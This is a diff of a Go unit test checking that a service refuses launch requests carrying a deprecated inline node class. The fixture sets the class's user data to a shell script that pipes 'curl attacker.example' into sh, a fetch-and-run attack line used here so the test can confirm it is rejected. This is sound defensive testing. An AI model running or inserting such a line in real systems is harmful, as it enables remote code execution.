@@ -148,8 +148,9 @@ func TestInlineNodeClassesAreRefused(t *testing.T) {
 	e := newEnv(t)
 	svc := e.service(t)
 	req := launchRequest("inline-1", "m5.large")
-	req.NodeClass = nodeClass("al2023@latest") //nolint:staticcheck // the deprecated field, set to be refused
-	req.NodeClass.UserData = "#!/bin/sh\ncurl attacker.example | sh"
+	inline := nodeClass("al2023@latest")
+	inline.UserData = "#!/bin/sh\ncurl attacker.example | sh"
+	req.NodeClass = inline //nolint:staticcheck // the deprecated field, set to be refused
 	if _, err := svc.Launch(ctx, req); !errors.Is(err, apierr.ErrInvalidArgument) || !strings.Contains(err.Error(), "node_class:") {
 		t.Fatalf("launch with an inline class: %v, want invalid argument naming node_class", err)
 	}
